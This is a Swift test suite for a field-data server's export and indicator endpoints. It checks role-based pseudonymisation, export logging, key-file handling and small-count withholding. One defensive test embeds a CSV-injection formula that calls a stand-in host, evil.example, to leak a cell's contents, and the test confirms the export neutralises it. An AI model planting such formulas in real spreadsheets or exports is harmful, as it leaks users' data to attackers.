import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import PalabreCore
import PalabreServer
import PalabreServerInspection
import PalabreStore
import Testing

/// Exports and indicators from the service: what each role sees, pseudonyms that are stable and keyed, the export log.
@Suite struct ServerAnalysisTests {
    /// A service holding the demo samples in project p1, imported as the laptops would have pushed them.
    func loadedFixture(_ kind: BackendKind) async throws -> ServerFixture {
        let fx = try await ServerFixture(kind)
        try await fx.loadSamples()
        return fx
    }

    func csvRows(_ text: String) -> [[String]] {
        text.replacingOccurrences(of: "\u{FEFF}", with: "").split(separator: "\r\n").map {
            $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
        }
    }

    @Test(arguments: BackendKind.all) func analystsGetStablePseudonymsAndNoPhoneNumbers(_ kind: BackendKind) async throws {
        let fx = try await loadedFixture(kind)
        try await fx.app().test(.router) { client in
            let first = try await client.send(.get, "/v1/export?format=csv&form=participant", token: fx.tokens["analyst"])
            #expect(first.status == .ok)
            #expect(first.headers[.contentType]?.hasPrefix("text/csv") == true)
            let rows = csvRows(first.text)
            let header = rows[0]
            #expect(!header.contains("phone"), "contact fields are dropped for analysts")
            let nameColumn = try #require(header.firstIndex(of: "name"))
            let names = rows.dropFirst().map { $0[nameColumn] }.filter { !$0.isEmpty }
            #expect(!names.isEmpty && names.allSatisfy { $0.hasPrefix("anon-") && $0.count == 21 })
            #expect(!first.text.contains("Fatoumata"), "no real name leaks")
            let second = try await client.send(.get, "/v1/export?format=csv&form=participant", token: fx.tokens["analyst"])
            #expect(second.text == first.text, "the same person has the same pseudonym in every export")
        }
    }

    @Test(arguments: BackendKind.all) func pseudonymsDependOnTheServicesSecret(_ kind: BackendKind) async throws {
        let a = try await loadedFixture(kind)
        let b = try await loadedFixture(kind)
        let texts = try await [a, b].asyncMap { fx in
            try await fx.app().test(.router) { client in
                try await client.send(.get, "/v1/export?format=jsonl&form=participant", token: fx.tokens["analyst"]).text
            }
        }
        #expect(texts[0] != texts[1], "two services with different secrets give different pseudonyms")
    }

    @Test(arguments: BackendKind.all) func aKeyFileTakesTheSecretOutOfTheDatabaseAndOnlyThatFileOrACopyIsAcceptedAfter(
        _ kind: BackendKind
    ) async throws {
        let fx = try await loadedFixture(kind)
        func export() async throws -> String {
            try await fx.app().test(.router) { client in
                try await client.send(.get, "/v1/export?format=jsonl&form=participant", token: fx.tokens["analyst"]).text
            }
        }
        let before = try await export()
        let key = fx.dir.appendingPathComponent("pseudonym.key").path
        fx.backend.pseudonymSecret.keep(inFile: key)
        try await fx.backend.preparePseudonymSecret()
        #expect(try await export() == before, "the database's secret moved to the file: the same pseudonyms")
        let mode = try FileManager.default.attributesOfItem(atPath: key)[.posixPermissions] as? Int
        #expect(mode == 0o600)

        // The database keeps only the key's fingerprint: without the file, or with no file at another path (a second
        // instance), it is refused rather than a new secret made that would change every pseudonym.
        fx.backend.pseudonymSecret.keep(inFile: nil)
        await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains("moved to a key file") }
        let copy = fx.dir.appendingPathComponent("copy.key").path
        fx.backend.pseudonymSecret.keep(inFile: copy)
        await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains("copy that file here") }
        #expect(!FileManager.default.fileExists(atPath: copy))
        // Another service's file is refused; a copy of this one's works.
        let other = try await loadedFixture(kind)
        let otherKey = other.dir.appendingPathComponent("pseudonym.key").path
        other.backend.pseudonymSecret.keep(inFile: otherKey)
        try await other.backend.preparePseudonymSecret()
        fx.backend.pseudonymSecret.keep(inFile: otherKey)
        await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains("another secret") }
        try FileManager.default.copyItem(atPath: key, toPath: copy)
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: copy)
        fx.backend.pseudonymSecret.keep(inFile: copy)
        #expect(try await export() == before, "a copy of the file gives the same pseudonyms")

        fx.backend.pseudonymSecret.keep(inFile: key)
        for (contents, rule) in [("not a secret\n", "64 hexadecimal"), (String(repeating: "ab", count: 31) + "\n", "64 hexadecimal")] {
            try contents.write(toFile: key, atomically: true, encoding: .utf8)
            try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: key)
            await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains(rule) }
        }
        try FileManager.default.setAttributes([.posixPermissions: 0o640], ofItemAtPath: key)
        await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains("chmod 600") }
        try FileManager.default.removeItem(atPath: key)
        try FileManager.default.createSymbolicLink(atPath: key, withDestinationPath: "/etc/hostname")
        await #expect { try await fx.backend.preparePseudonymSecret() } throws: { "\($0)".contains("not a regular file") }
    }

    @Test(arguments: BackendKind.all) func coordinatorsGetTheValuesAndEveryExportIsLogged(_ kind: BackendKind) async throws {
        let fx = try await loadedFixture(kind)
        try await fx.app().test(.router) { client in
            let r = try await client.send(.get, "/v1/export?format=csv&form=participant", token: fx.tokens["coord"])
            #expect(r.status == .ok)
            #expect(csvRows(r.text)[0].contains("phone"))
            #expect(r.text.contains("Fatoumata Tandina"))
            _ = try await client.send(.get, "/v1/export?format=jsonl", token: fx.tokens["analyst"])
        }
        let log = try await fx.backend.exportLog()
        #expect(log.count == 2)
        #expect(log.first?.device == "analyst" && log.first?.role == "analyst" && log.first?.view == "pseudonymised" && log.first?.format == "jsonl")
        #expect(log.last?.device == "coord" && log.last?.view == "values" && log.last?.forms == ["participant"])
    }

    /// OWASP "CSV injection" through the service: a title a laptop synced as a formula reaches the analyst's spreadsheet
    /// as text; a number-like cell is left alone.
    @Test(arguments: BackendKind.all) func remoteCSVExportsNeutraliseFormulas(_ kind: BackendKind) async throws {
        let fx = try await ServerFixture(kind)
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
        let change = sessionChange(
            node: "aaaaaaaaaaaaaaaa", hlc: stampNow(),
            values: [
                "title": .string(formula), "date": .string("2026-09-08"), "region": .string("gao"), "locality": .string("@cmd"),
                "format": .string("intergenerational"), "tensions": .string("-12,5"),
            ])
        try await fx.app().test(.router) { client in
            let pushed = try await client.push(Wire.PushRequest(batch: "b1", node: "aaaaaaaaaaaaaaaa", changes: [change]), token: fx.tokens["fac1"])
            #expect(pushed.status == .ok && pushed.json["applied"]?.intValue == 1, "\(pushed.text)")
            for role in ["analyst", "coord"] {
                let r = try await client.send(.get, "/v1/export?format=csv&form=session", token: fx.tokens[role])
                #expect(r.status == .ok)
                #expect(r.text.contains(",'@cmd,"), "\(r.text)")
                #expect(r.text.contains(#"\#r\#n"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")","#), "\(role): \(r.text)")
                #expect(r.text.contains(#","-12,5","#), "a plain number is left alone: \(r.text)")
                #expect(!r.text.contains(#"\#r\#n"=HYPERLINK"#) && !r.text.contains("\r\n=HYPERLINK"))
            }
            let jsonl = try await client.send(.get, "/v1/export?format=jsonl&form=session", token: fx.tokens["coord"])
            #expect(jsonl.text.contains(#""title":"=HYPERLINK("#), "JSON Lines carries the value as it is")
        }
    }

    @Test(arguments: BackendKind.all) func exportsAreRefusedToFacilitatorsAndBadOptionsNamed(_ kind: BackendKind) async throws {
        let fx = try await loadedFixture(kind)
        try await fx.app().test(.router) { client in
            #expect(try await client.send(.get, "/v1/export?format=jsonl", token: fx.tokens["fac1"]).status == .forbidden)
            let noForm = try await client.send(.get, "/v1/export?format=csv", token: fx.tokens["coord"])
            #expect(noForm.status == .badRequest && noForm.text.contains("'form' is required"))
            let badFormat = try await client.send(.get, "/v1/export?format=xlsx", token: fx.tokens["coord"])
            #expect(badFormat.status == .badRequest && badFormat.text.contains("xlsx"))
            let otherProject = try await client.send(.get, "/v1/export?format=jsonl&project=p2", token: fx.tokens["analyst"])
            #expect(otherProject.status == .forbidden)
        }
        #expect(try await fx.backend.exportLog().isEmpty, "refused exports are not logged as exports")
    }

    /// Coordinators get the indicators as Core computes them; analysts the same with every count of fewer than 5
    /// people withheld (null, listed under `withheld`).
    @Test(arguments: BackendKind.all) func indicatorsOfTheServiceMatchTheRuleOnItsRecords(_ kind: BackendKind) async throws {
        let fx = try await loadedFixture(kind)
        let (analyst, coordinator) = try await fx.app().test(.router) { client in
            (
                try await client.send(.get, "/v1/indicators?as_of=2026-12-31&region=gao", token: fx.tokens["analyst"]).json,
                try await client.send(.get, "/v1/indicators?as_of=2026-12-31&region=gao", token: fx.tokens["coord"]).json
            )
        }
        let records = try await fx.backend.storedRecords(project: "p1").filter { !$0.isDeleted }.map { (form: $0.form, id: $0.id, values: $0.values) }
        let expected = Indicators(
            records: records, map: IndicatorMap.declared(by: FormLoader.builtIn()), filter: .init(region: "gao"), today: "2026-12-31")
        #expect(coordinator == expected.json && coordinator["withheld"] == nil)
        #expect(analyst == expected.withholdingSmallCells(below: 5).json)
        #expect(analyst["sessions"]?["total"]?.intValue == 9)
        // Every count an analyst sees is 0 or at least 5.
        let participants = try #require(analyst["participants"])
        for key in ["total", "registered", "headcounts", "women", "men", "youth"] {
            if let n = participants[key]?.intValue { #expect(n == 0 || n >= 5, "\(key): \(n)") }
        }
        for group in ["by_age_band", "by_role"] {
            guard case .object(let members)? = participants[group] else { continue }
            for (k, v) in members { if let n = v.intValue { #expect(n == 0 || n >= 5, "\(group).\(k): \(n)") } }
        }
    }
}

extension Array {
    func asyncMap<T>(_ transform: (Element) async throws -> T) async rethrows -> [T] {
        var out: [T] = []
        for e in self { out.append(try await transform(e)) }
        return out
    }
}
